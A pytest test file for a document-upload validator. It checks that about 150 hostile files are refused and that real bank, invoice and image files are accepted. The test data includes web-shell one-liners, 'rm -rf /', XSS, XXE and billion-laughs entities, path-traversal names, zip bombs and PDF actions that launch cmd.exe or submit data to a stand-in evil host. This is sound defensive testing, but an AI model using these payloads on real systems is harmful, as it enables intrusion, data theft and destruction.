"""Which files are taken in: 100 hostile ones refused, each for its trick, 50 whole ones accepted, and real ones."""

import io
import os
import zipfile
import zlib
from pathlib import Path

import pytest

from apps.core.errors import DomainError
from apps.core.tests.files import (
    CAMT,
    CII,
    CSV,
    MB,
    MT940,
    OFFICE,
    OFX1,
    OFX2,
    RELATIONS,
    SHEET,
    TYPES,
    UBL,
    archive,
    attached,
    big_xlsx,
    deflated,
    jpeg,
    jpeg_of,
    lying,
    objects,
    overlapping,
    pdf,
    picture,
    png,
    png_chunk,
    png_of,
    quoting,
    relation,
    repacked,
    rows,
    stream,
    with_flag,
    workbook_parts,
    xlsx,
    xml,
)
from apps.core.uploads.checks import inspect
from apps.core.uploads.kinds import KINDS, PURPOSES

ROOT = Path(__file__).parents[3]
CORPUS = Path(os.environ.get("DAYBOOK_CORPUS") or ROOT.parent / "shared" / "corpus" / "clinic").parent

TYPE, NAME, LARGE = "FILE_TYPE_NOT_ALLOWED", "FILE_NAME_REFUSED", "FILE_TOO_LARGE"
DAMAGED, REFUSED = "FILE_DAMAGED", "FILE_REFUSED"
HTML = b"<html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode.\r\r\n$PE\0\0"
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
XHTML = "http://www.w3.org/1999/xhtml"


def judged(name, content, purpose):
    return inspect(io.BytesIO(content), name=name, purpose=purpose)


def sheet_with(before):
    return {"xl/worksheets/sheet1.xml": SHEET.replace("<worksheet", f"{before}<worksheet") % "<row/>"}


def related(kind, target, mode=""):
    return {"xl/worksheets/_rels/sheet1.xml.rels": RELATIONS % relation(kind, target, mode)}


def typed(content_type):
    return {"[Content_Types].xml": TYPES % f'<Override PartName="/xl/payload.xml" ContentType="{content_type}"/>'}


# What each is called, its name, its content (made when the test runs), the refusal. The purpose follows from the name.
HOSTILE = {
    # names
    "a program": ("invoice.exe", lambda: EXE, TYPE),
    "a web page": ("invoice.html", lambda: HTML, TYPE),
    "a vector picture": ("logo.svg", lambda: SVG, TYPE),
    "a workbook with macros by name": ("sheet.xlsm", xlsx, TYPE),
    "an archive": ("papers.zip", lambda: archive({"a.txt": "a"}), TYPE),
    "no ending": ("invoice", pdf, TYPE),
    "an ending that only looks like one": ("invoice.рdf", pdf, TYPE),  # noqa: RUF001 - Cyrillic er
    "an ending with a dot behind it": ("invoice.pdf.", pdf, TYPE),
    "a hidden first ending": ("invoice.exe.pdf", pdf, NAME),
    "a hidden first ending with spaces": ("invoice.js .pdf", pdf, NAME),
    "a hidden script ending": ("invoice.PHP.png", png, NAME),
    "a path upwards": ("../../etc/cron.d/job.csv", CSV.encode, NAME),
    "a path of Windows": ("..\\..\\boot.csv", CSV.encode, NAME),
    "an absolute path": ("/etc/passwd.csv", CSV.encode, NAME),
    "a drive": ("C:autoexec.csv", CSV.encode, NAME),
    "a second stream of NTFS": ("evil.exe:invoice.pdf", pdf, NAME),
    "a null byte": ("invoice.pdf\0.png", png, NAME),
    "a line end, for a header": ("invoice\r\nX-Evil: 1.pdf", pdf, NAME),
    "a right-to-left override": ("invoice\u202ecod.pdf", pdf, NAME),
    "an invisible space": ("invoice\u200b.pdf", pdf, NAME),
    "an escape sequence": ("\x1b[2Jinvoice.pdf", pdf, NAME),
    "a hidden file": (".htaccess.csv", CSV.encode, NAME),
    "markup in the name": ('"><img src=x onerror=alert(1)>.pdf', pdf, NAME),
    "only spaces": ("   ", pdf, NAME),
    "an endless name": ("a" * 300 + ".pdf", pdf, NAME),
    # size
    "a byte more than 10 MB": ("list.csv", lambda: b"a" * (10 * MB + 1), LARGE),
    "a picture of 11 MB": ("scan.png", lambda: png() + b"\0" * 11 * MB, LARGE),
    "a statement of 201 MB": ("mutations.sta", lambda: MT940.encode() + b"\n" * 201 * MB, LARGE),
    "nothing at all": ("empty.csv", bytes, DAMAGED),
    # one thing under the name of another
    "a web page as csv": ("list.csv", lambda: HTML, TYPE),
    "a web page as csv, after spaces and a mark": ("list.csv", lambda: b"\xef\xbb\xbf \r\n\t" + HTML, TYPE),
    "a web page deep in a csv": ("list.csv", lambda: CSV.encode() * 4000 + HTML, TYPE),
    "a script across two reads of a csv": ("list.csv", lambda: b"a" * (64 * 1024 - 4) + b"<script>x</script>", TYPE),
    "a web page as csv in UTF-16": ("list.csv", lambda: HTML.decode().encode("utf-16"), TYPE),
    "a picture with script as csv": ("list.csv", lambda: SVG, TYPE),
    "a page of PHP as csv": ("list.csv", lambda: b"a;b\n<?php system($_GET[0]) ?>\n", TYPE),
    "a shell script as csv": ("list.csv", lambda: b"#!/bin/sh\nrm -rf /\n", TYPE),
    "PostScript as csv": ("list.csv", lambda: b"%!PS\n(%pipe%id) (r) file\n", TYPE),
    "RTF as csv": ("list.csv", lambda: b"{\\rtf1\\ansi{\\object\\objdata}}", TYPE),
    "a program as csv": ("list.csv", lambda: EXE, TYPE),
    "a workbook as csv": ("list.csv", xlsx, TYPE),
    "null bytes in a csv": ("list.csv", lambda: b"a;b\n1;\0\n", TYPE),
    "escape sequences in a csv": ("list.csv", lambda: b"a;b\n\x1b]0;owned\x07;2\n", TYPE),
    "UTF-16 without its mark": ("list.csv", lambda: CSV.encode("utf-16-le"), TYPE),
    "a broken UTF-16": ("list.csv", lambda: CSV.encode("utf-16")[:-1], TYPE),
    "bytes that are no text": ("list.csv", lambda: b"a;b\n\x81\x8d\x8f;2\n", TYPE),
    "a web page as txt": ("mutations.txt", lambda: HTML, TYPE),
    "some text as MT940": ("mutations.sta", lambda: b"Dear accountant,\n", TYPE),
    "MT940 with a script in a memo": ("mutations.940", lambda: (MT940 + ":86:<script>x</script>\n").encode(), TYPE),
    "a web page as OFX": ("mutations.ofx", lambda: HTML, TYPE),
    "XML of another kind as OFX": ("mutations.ofx", CAMT.encode, TYPE),
    "OFX with entities": ("mutations.ofx", lambda: OFX2.replace("<OFX>", LAUGHS + "<OFX>").encode(), REFUSED),
    "a web page as png": ("scan.png", lambda: HTML, TYPE),
    "a jpeg as png": ("scan.png", jpeg, TYPE),
    "a gif as jpg": ("scan.jpg", lambda: picture("GIF"), TYPE),
    "a PDF as png": ("scan.png", pdf, TYPE),
    "a web page as pdf": ("invoice.pdf", lambda: HTML, TYPE),
    "a Word document as xlsx": (
        "sheet.xlsx", lambda: archive({"[Content_Types].xml": "", "word/document.xml": ""}), TYPE
    ),
    "any archive as xlsx": ("sheet.xlsx", lambda: archive({"readme.txt": "hello"}), TYPE),
    "an encrypted workbook, which is OLE": ("sheet.xlsx", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 999, TYPE),
    # pictures
    "a signature and nothing else": ("scan.png", lambda: b"\x89PNG\r\n\x1a\n", DAMAGED),
    "a png cut off": ("scan.png", lambda: png((300, 300))[:-20], DAMAGED),
    "a png with a false checksum": ("scan.png", lambda: png().replace(b"IHDR\0\0\0\x08", b"IHDR\0\0\0\x09"), DAMAGED),
    "a png with a false checksum further on": ("scan.png", lambda: png()[:-13] + b"\0" + png()[-12:], DAMAGED),
    "a png of 30,000 x 30,000": ("scan.png", lambda: png_of(30_000, 30_000), REFUSED),
    "a png of 4,000,000,000 x 1": ("scan.png", lambda: png_of(4_000_000_000, 1), REFUSED),
    "a png of 65 million pixels": ("scan.png", lambda: png_of(13_000, 5_001), REFUSED),
    "a png whose remark unpacks to 40 MB": ("scan.png", lambda: png(Comment="a" * 40 * MB), DAMAGED),
    "a png with ten remarks of 900 KB": (
        "scan.png", lambda: png(**{f"Comment{n}": "a" * 900_000 for n in range(10)}), DAMAGED
    ),
    "a png with an archive behind it": ("scan.png", lambda: png() + archive({"a": "a"}), REFUSED),
    "a png with a page behind it": ("scan.png", lambda: png() + HTML, REFUSED),
    "a png with two ends": ("scan.png", lambda: png() + b"junk" + png_chunk(b"IEND", b""), REFUSED),
    "a png with a script as remark": (
        "scan.png", lambda: png()[:-12] + png_chunk(b"tEXt", b"Comment\0" + HTML) + png_chunk(b"IEND", b""), TYPE
    ),
    "a jpeg with a script as comment": ("scan.jpg", lambda: jpeg(comment=HTML), TYPE),
    "a jpeg with PHP as comment": ("scan.jpeg", lambda: jpeg(comment=b"<?php eval($_POST[0]); ?>"), TYPE),
    "a jpeg with an archive behind it": ("scan.jpg", lambda: jpeg() + archive({"a.class": "a"}), TYPE),
    "a jpeg with a page behind it": ("scan.jpg", lambda: jpeg() + SVG, TYPE),
    "a jpeg cut off": ("scan.jpg", lambda: jpeg((200, 200))[:-2], DAMAGED),
    "a jpeg of headers only": ("scan.jpg", lambda: jpeg()[:100], DAMAGED),
    "a jpeg of 65,000 x 65,000": ("scan.jpg", lambda: jpeg_of(65_000, 65_000), REFUSED),
    # PDF
    "a PDF behind a page": ("invoice.pdf", lambda: HTML + pdf(), TYPE),
    "a PDF with a page in its first lines": ("invoice.pdf", lambda: pdf(head=b"%PDF-1.4\n%" + HTML + b"\n"), TYPE),
    "a PDF with an archive behind it": ("invoice.pdf", lambda: pdf() + archive({"a": "a"}), TYPE),
    "a PDF cut off": ("invoice.pdf", lambda: pdf()[:-30], DAMAGED),
    "a PDF without end": ("invoice.pdf", lambda: pdf(end=b""), DAMAGED),
    "JavaScript on opening": (
        "invoice.pdf", lambda: pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), REFUSED
    ),
    "JavaScript with an escaped name": ("invoice.pdf", lambda: pdf("<</S/J#61va#53cript/J#53 5 0 R>>"), REFUSED),
    "JavaScript with digits in small letters": ("invoice.pdf", lambda: pdf("<</S/#4aava#53cript>>"), REFUSED),
    "JavaScript with digits in capitals": ("invoice.pdf", lambda: pdf("<</S/#4Aava#53cript>>"), REFUSED),
    "JavaScript in packed objects": ("invoice.pdf", lambda: pdf(objects("<</S/JavaScript/JS(x)>>")), REFUSED),
    "packed objects that do not say so": (
        "invoice.pdf", lambda: pdf(stream(b"9 0 <</S/JavaScript/JS(x)>>", "/Type/Metadata")), REFUSED
    ),
    "packed objects in another packing": (
        "invoice.pdf",
        lambda: pdf(b"<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode]>>stream\n39203020>\nendstream"),
        REFUSED,
    ),
    "packed objects behind a predictor": (
        "invoice.pdf", lambda: pdf(objects("<<>>", "/DecodeParms<</Predictor 12/Columns 4>>")), REFUSED
    ),
    "packed objects of 100 MB": ("invoice.pdf", lambda: pdf(objects(" " * 100 * MB)), REFUSED),
    "a program to launch": ("invoice.pdf", lambda: pdf("<</S/Launch/F(cmd.exe)>>"), REFUSED),
    "a form that sends itself": ("invoice.pdf", lambda: pdf("<</S/SubmitForm/F(http://evil.example)>>"), REFUSED),
    "rich media": ("invoice.pdf", lambda: pdf("<</Subtype/RichMedia>>"), REFUSED),
    "an XFA form": ("invoice.pdf", lambda: pdf("<</XFA[(xdp:xdp) 5 0 R]>>"), REFUSED),
    "a PDF with a password": ("invoice.pdf", lambda: pdf().replace(b"/Root", b"/Encrypt 9 0 R/Root"), REFUSED),
    "a program inside a PDF": ("invoice.pdf", lambda: pdf(*attached("factur-x.xml", EXE)), REFUSED),
    "an unpacked program inside a PDF": ("invoice.pdf", lambda: pdf(*attached("a.xml", EXE, packed=False)), REFUSED),
    "a program of Linux inside a PDF": ("invoice.pdf", lambda: pdf(*attached("a.xml", b"\x7fELF\2\1\1")), REFUSED),
    "an archive inside a PDF": ("invoice.pdf", lambda: pdf(*attached("a.xml", archive({"a": "a" * 99999}))), REFUSED),
    "a script inside a PDF": ("invoice.pdf", lambda: pdf(*attached("open me.js", b"WScript.Shell")), REFUSED),
    "a script inside a PDF, its name in digits": (
        "invoice.pdf", lambda: pdf(f"<</UF<FEFF{'a.vbs'.encode('utf-16-be').hex()}>/EF<</F 5 0 R>>>>"), REFUSED
    ),
    # workbooks
    "macros": ("sheet.xlsx", lambda: xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), REFUSED),
    "macros under another name": ("sheet.xlsx", lambda: xlsx(related("vbaProject", "payload.xml")), REFUSED),
    "macros by content type": (
        "sheet.xlsx", lambda: xlsx(typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml")), REFUSED
    ),
    "macros of Excel 4": ("sheet.xlsx", lambda: xlsx(related("xlMacrosheet", "macrosheets/sheet1.xml")), REFUSED),
    "an ActiveX control": ("sheet.xlsx", lambda: xlsx({"xl/activeX/activeX1.bin": b"\0"}), REFUSED),
    "an embedded document": ("sheet.xlsx", lambda: xlsx({"xl/embeddings/letter.docx": b"PK"}), REFUSED),
    "a link to another workbook": (
        "sheet.xlsx", lambda: xlsx(related("externalLinkPath", "file:///c:/a.xlsx", "External")), REFUSED
    ),
    "a picture from elsewhere": ("sheet.xlsx", lambda: xlsx(related("image", "//evil/x.png", "External")), REFUSED),
    "a connection to a database": ("sheet.xlsx", lambda: xlsx(related("connections", "connections.xml")), REFUSED),
    "a picture with script inside": ("sheet.xlsx", lambda: xlsx({"xl/media/image1.svg": SVG}), REFUSED),
    "a path upwards inside": ("sheet.xlsx", lambda: xlsx({"../../evil.xml": "<a/>"}), REFUSED),
    "an absolute path inside": ("sheet.xlsx", lambda: xlsx({"/etc/evil.xml": "<a/>"}), REFUSED),
    "an archive inside": ("sheet.xlsx", lambda: xlsx({"xl/media/image1.png": archive({"a": "a"})}), REFUSED),
    "entities in a sheet": ("sheet.xlsx", lambda: xlsx(sheet_with(LAUGHS)), REFUSED),
    "an external entity in a sheet": (
        "sheet.xlsx", lambda: xlsx(sheet_with('<!DOCTYPE a SYSTEM "file:///etc/passwd">')), REFUSED
    ),
    "entities in relationships": (
        "sheet.xlsx", lambda: xlsx({"_rels/.rels": (RELATIONS % "").replace("<Rel", LAUGHS + "<Rel")}), REFUSED
    ),
    "a workbook that unpacks to 2 GB": ("sheet.xlsx", lambda: big_xlsx("xl/worksheets/sheet2.xml", 2048), REFUSED),
    "a workbook that unpacks to 90 MB of one byte": (
        "sheet.xlsx", lambda: big_xlsx("xl/worksheets/sheet2.xml", 90), REFUSED
    ),
    "a workbook that lies about its size": (
        "sheet.xlsx", lambda: big_xlsx("xl/media/a.png", 2048, says=1000), REFUSED
    ),
    "a lie with its checksum": (
        "sheet.xlsx",
        lambda: lying(
            xlsx({"xl/media/a.png": b"\0" * 50 * MB}), "xl/media/a.png", size=1000, crc=zlib.crc32(b"\0" * 1000)
        ),
        REFUSED,
    ),
    "a workbook that promises more than it has": (
        "sheet.xlsx", lambda: lying(xlsx(), "xl/workbook.xml", size=5000), DAMAGED
    ),
    "parts that share their bytes": ("sheet.xlsx", quoting, REFUSED),
    "200 entries for one part": ("sheet.xlsx", overlapping, REFUSED),
    "5,000 parts": ("sheet.xlsx", lambda: xlsx({f"xl/a{n}.xml": "" for n in range(5000)}), REFUSED),
    "two parts of one name": ("sheet.xlsx", lambda: xlsx({"xl/Workbook.xml": "<a/>"}), REFUSED),
    "a part with a password": ("sheet.xlsx", lambda: with_flag(xlsx(), 0x1), REFUSED),
    "a part with more behind it": (
        "sheet.xlsx",
        lambda: repacked("xl/media/a.png", deflated(b"scan") + HTML, size=4, crc=zlib.crc32(b"scan")),
        DAMAGED,
    ),
    "a part that begins with something else": (
        "sheet.xlsx", lambda: (b"PK\x03\x05".join(xlsx().rsplit(b"PK\x03\x04", 1))), REFUSED
    ),
    "a part in another packing": ("sheet.xlsx", lambda: xlsx(packing=zipfile.ZIP_BZIP2), REFUSED),
    "a workbook cut off": ("sheet.xlsx", lambda: xlsx()[:-60], DAMAGED),
    "a workbook with something behind it": ("sheet.xlsx", lambda: xlsx() + HTML, DAMAGED),
    "a workbook with something before it": ("sheet.xlsx", lambda: b"PK\x03\x04" + HTML + xlsx(), REFUSED),
    "a part with a false checksum": (
        "sheet.xlsx", lambda: xlsx(packing=zipfile.ZIP_STORED).replace(b"<workbook/>", b"<workbooK/>"), DAMAGED
    ),
    "two descriptions of one part": ("sheet.xlsx", lambda: xlsx().replace(b"xl/workbook", b"xl/forkbook", 1), REFUSED),
    # XML
    "a thousand million laughs": ("invoice.xml", lambda: xml("&b;", before=LAUGHS), REFUSED),
    "an external entity": (
        "invoice.xml", lambda: xml("&x;", before='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), REFUSED
    ),
    "a parameter entity": (
        "invoice.xml", lambda: xml(before='<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;]>'), REFUSED
    ),
    "a document type from elsewhere": (
        "invoice.xml", lambda: xml(before='<!DOCTYPE a PUBLIC "-//A//B" "http://evil.example/a.dtd">'), REFUSED
    ),
    "an empty document type": ("invoice.xml", lambda: xml(before="<!DOCTYPE Invoice>"), REFUSED),
    "entities in UTF-16": ("invoice.xml", lambda: f"<?xml version='1.0'?>{LAUGHS}<a/>".encode("utf-16"), REFUSED),
    "XHTML": ("invoice.xml", lambda: xml(root="html", attributes=f' xmlns="{XHTML}"'), TYPE),
    "HTML without a namespace": ("invoice.xml", lambda: xml(root="HTML"), TYPE),
    "SVG as XML": ("invoice.xml", lambda: SVG, TYPE),
    "a script in an invoice": (
        "invoice.xml", lambda: xml(f'<s:script xmlns:s="{XHTML}">alert(1)</s:script>'), TYPE
    ),
    "a transformation": (
        "invoice.xml",
        lambda: xml(root="x:stylesheet", attributes=' xmlns:x="http://www.w3.org/1999/XSL/Transform"'),
        TYPE,
    ),
    "an inclusion": (
        "invoice.xml", lambda: xml('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'), TYPE
    ),
    "a style sheet": (
        "invoice.xml", lambda: xml(before='<?xml-stylesheet type="text/xsl" href="http://evil/x.xsl"?>'), REFUSED
    ),
    "100,000 levels": ("invoice.xml", lambda: xml("<a>" * 100_000 + "</a>" * 100_000), REFUSED),
    "2,000,000 elements": ("invoice.xml", lambda: xml("<a/>" * 2_000_000), REFUSED),
    "100,000 names": ("invoice.xml", lambda: xml("".join(f"<a{n}/>" for n in range(100_000))), REFUSED),
    "an attribute of 5 MB": ("invoice.xml", lambda: xml(attributes=f' a="{"x" * 5 * MB}"'), REFUSED),
    "XML cut off": ("invoice.xml", lambda: UBL.encode()[:-20], DAMAGED),
    "XML with something behind it": ("invoice.xml", lambda: UBL.encode() + HTML, DAMAGED),
    "no XML": ("invoice.xml", lambda: b"Dear accountant", DAMAGED),
}  # fmt: skip

GOOD = {
    "a PDF": ("invoice.pdf", pdf),
    "a PDF of an older version": ("invoice.pdf", lambda: pdf(head=b"%PDF-1.3\n%\xe2\xe3\xcf\xd3\n")),
    "a PDF by a large name": ("INVOICE.PDF", pdf),
    "a PDF with a year in its name": ("Invoice 2026.03.02.pdf", pdf),
    "a PDF with a name of Norway": ("Årsregnskap Bjørnøya (2026).pdf", pdf),
    "a PDF with a name of Japan": ("請求書.pdf", pdf),
    "a PDF with a site in its name": ("www.clinic.com.pdf", pdf),
    "a PDF that opens at a page": ("invoice.pdf", lambda: pdf(catalog="/OpenAction[3 0 R/Fit]")),
    "a PDF with a link": ("invoice.pdf", lambda: pdf("<</S/URI/URI(https://clinic.example/pay)>>")),
    "a PDF with a form": ("invoice.pdf", lambda: pdf("<</Fields[]>>", catalog="/AcroForm 4 0 R")),
    "a PDF with text": ("invoice.pdf", lambda: pdf(stream(b"BT /F1 12 Tf (JavaScript course) Tj ET"))),
    "a PDF with packed objects": ("invoice.pdf", lambda: pdf(objects("<</Type/Font/Subtype/Type1>>"))),
    "a PDF with a photograph": ("invoice.pdf", lambda: pdf(stream(jpeg((300, 200)), "/Subtype/Image", packed=False))),
    "a PDF with random bytes": ("invoice.pdf", lambda: pdf(stream(os.urandom(2 * MB), packed=False))),
    "a PDF of 9 MB": ("invoice.pdf", lambda: pdf(stream(os.urandom(9 * MB)))),
    "a Factur-X invoice": ("invoice.pdf", lambda: pdf(*attached("factur-x.xml", CII.encode()))),
    "a ZUGFeRD invoice, not packed": (
        "invoice.pdf", lambda: pdf(*attached("ZUGFeRD-invoice.xml", CII.encode(), packed=False))
    ),
    "a PDF with a line end behind it": ("invoice.pdf", lambda: pdf(end=b"%%EOF\r\n\r\n")),
    "a png": ("scan.png", png),
    "a png in grey": ("scan.png", lambda: png(mode="L")),
    "a png with a palette": ("scan.png", lambda: png(mode="P")),
    "a png that one can see through": ("scan.png", lambda: png(mode="RGBA")),
    "a black and white png": ("scan.png", lambda: png((2480, 3508), "1")),
    "a png with a remark": ("scan.png", lambda: png(Software="Scanner 3", Title="Receipt")),
    "a png of 50 million pixels": ("scan.png", lambda: png((8000, 6250), "1")),
    "a jpeg": ("scan.jpg", jpeg),
    "a jpeg by its long name": ("scan.jpeg", jpeg),
    "a jpeg by a large name": ("IMG_0042.JPG", jpeg),
    "a jpeg in steps": ("scan.jpg", lambda: jpeg((640, 480), progressive=True)),
    "a jpeg of a telephone": ("scan.jpg", lambda: jpeg((4000, 3000), exif=b"Exif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0")),
    "a jpeg with a second picture behind it": ("scan.jpg", lambda: jpeg((64, 64)) + jpeg((8, 8))),
    "a jpeg for print": ("scan.jpg", lambda: picture("JPEG", mode="CMYK")),
    "a workbook": ("sheet.xlsx", xlsx),
    "a workbook, not packed": ("sheet.xlsx", lambda: xlsx(packing=zipfile.ZIP_STORED)),
    "a workbook with folders": ("sheet.xlsx", lambda: xlsx({"xl/": "", "docProps/app.xml": "<Properties/>"})),
    "a workbook with a picture": ("sheet.xlsx", lambda: xlsx({"xl/media/image1.png": png()})),
    "a workbook with printer settings": (
        "sheet.xlsx", lambda: xlsx({"xl/printerSettings/printerSettings1.bin": b"\0"})
    ),
    "a workbook with a link to click": (
        "sheet.xlsx", lambda: xlsx(related("hyperlink", "https://clinic.example/", "External"))
    ),
    "a workbook of 60 MB": ("sheet.xlsx", lambda: archive(workbook_parts(rows(1_500_000)))),
    "a workbook in UTF-16": (
        "sheet.xlsx", lambda: xlsx({"xl/styles.xml": "<?xml version='1.0' encoding='UTF-16'?><a/>".encode("utf-16")})
    ),
    "a csv": ("list.csv", CSV.encode),
    "a csv with a mark": ("list.csv", lambda: CSV.encode("utf-8-sig")),
    "a csv of Windows": ("list.csv", lambda: "Naam;Bedrag\r\nCafé Ñ;€ 12,50\r\n".encode("cp1252")),
    "a csv in UTF-16": ("list.csv", lambda: CSV.encode("utf-16")),
    "a csv in UTF-16, large end first": ("list.csv", lambda: b"\xfe\xff" + CSV.encode("utf-16-be")),
    "a csv with letters on the edge of a read": ("list.csv", lambda: b"a" * (64 * 1024 - 1) + "é;ø\n".encode()),
    "a csv with formulas, as a bank may send": ("list.csv", lambda: b"memo;amount\n=1+1;+5\n@sum;-2\n"),
    "a csv with comparisons": ("list.csv", lambda: b"rule;value\na < b;5 > 3\n<10 days;2\n"),
    "a csv that ends as in DOS": ("list.csv", lambda: CSV.encode() + b"\x1a"),
    "a csv of one column": ("list.csv", lambda: b"amount\n1\n2\n"),
    "a csv of 10 MB": ("list.csv", lambda: (CSV.encode() * 200_000)[: 10 * MB]),
    "MT940": ("mutations.sta", MT940.encode),
    "MT940 by its number": ("mutations.940", MT940.encode),
    "MT940 as text": ("mutations.txt", MT940.encode),
    "MT940 in the envelope of SWIFT": (
        "mutations.mt940", lambda: f"{{1:F01INGBNL2ABXXX}}{{2:I940}}{{4:\r\n{MT940}".encode()
    ),
    "OFX 1": ("mutations.ofx", OFX1.encode),
    "OFX 2": ("mutations.ofx", OFX2.encode),
    "OFX of Quicken": ("mutations.qfx", OFX1.encode),
    "CAMT.053": ("statement of camt.xml", CAMT.encode),
    "UBL": ("invoice.xml", UBL.encode),
    "UBL in UTF-16": ("invoice.xml", lambda: UBL.replace("UTF-8", "UTF-16").encode("utf-16")),
    "UBL in Latin 1": ("invoice.xml", lambda: xml("é").replace(b"UTF-8", b"latin1").decode().encode("latin-1")),
    "UBL with 3 MB of an attachment": (
        "invoice.xml", lambda: UBL.replace("</Invoice>", f"<Object>{'QUJD' * 800_000}</Object></Invoice>").encode()
    ),
    "CII": ("factur-x.xml", CII.encode),
}  # fmt: skip


def purpose_of(name):
    """The first purpose that takes such a file; for one that none takes, attachments."""
    if "statement" in name:
        return "statement"
    ending = name.rpartition(".")[2].lower().strip()
    return next((purpose for purpose, taken in PURPOSES.items() if ending in taken.extensions), "attachment")


@pytest.mark.parametrize("trick", HOSTILE)
def test_a_hostile_file_is_refused_for_its_trick(trick):
    name, make, code = HOSTILE[trick]
    with pytest.raises(DomainError) as refused:
        judged(name, make(), purpose_of(name))
    assert refused.value.code == code


@pytest.mark.parametrize("what", GOOD)
def test_a_whole_file_is_accepted_and_measured(what):
    name, make = GOOD[what]
    content = make()
    found = judged(name, content, purpose_of(name))
    assert (found.name, found.size) == (name, len(content))
    assert found.media_type == KINDS[name.rpartition(".")[2].lower()].media_type


def test_there_are_as_many_as_promised():
    assert len(HOSTILE) >= 80
    assert len(GOOD) >= 40
    assert OFFICE in RELATIONS % relation("image", "a")  # the builders write what the format says


@pytest.mark.parametrize("purpose", PURPOSES)
@pytest.mark.parametrize("extension", KINDS)
def test_each_purpose_takes_its_own_extensions(purpose, extension):
    makes = {"pdf": pdf, "png": png, "jpg": jpeg, "jpeg": jpeg, "xlsx": xlsx, "csv": CSV.encode, "xml": CAMT.encode,
             "xaf": CAMT.encode,
             "ofx": OFX1.encode, "qfx": OFX2.encode}  # fmt: skip
    content = makes.get(extension, MT940.encode)()
    if extension in PURPOSES[purpose].extensions:
        assert judged(f"file.{extension}", content, purpose).media_type == KINDS[extension].media_type
        return
    with pytest.raises(DomainError) as refused:
        judged(f"file.{extension}", content, purpose)
    assert refused.value.code == TYPE
    assert refused.value.facts["allowed"] == ", ".join(PURPOSES[purpose].extensions)


def test_a_name_is_kept_in_one_form_of_unicode_without_spaces_around_it():
    assert judged("  A\u030arsregnskap.csv ", CSV.encode(), "attachment").name == "Årsregnskap.csv"


# Real files of banks and invoicing programs; the two that are broken on purpose are refused.
REAL = {"camt": "statement", "csv_bank": "statement", "mt940": "statement", "ofx": "statement",
        "invoice_pdf": "document", "invoice_xml": "document", "invoice_xml_unit": "document"}  # fmt: skip
BROKEN = {"wolph__self-provided__empty_non_swift.sta", "wolph__self-provided__invalid_statement.sta"}


@pytest.mark.parametrize("folder", REAL)
def test_real_files_are_accepted(folder):
    if not CORPUS.is_dir():
        pytest.skip(f"REAL FILES NOT TRIED: {CORPUS} is not here")
    taken = PURPOSES[REAL[folder]].extensions
    files = [path for path in sorted((CORPUS / folder).iterdir()) if path.suffix.lower().lstrip(".") in taken]
    assert len(files) > 10
    refused = {}
    for path in files:
        with path.open("rb") as file:
            try:
                inspect(file, name=path.name, purpose=REAL[folder])
            except DomainError as refusal:
                refused[path.name] = str(refusal)
    assert set(refused) == BROKEN & {path.name for path in files}, refused
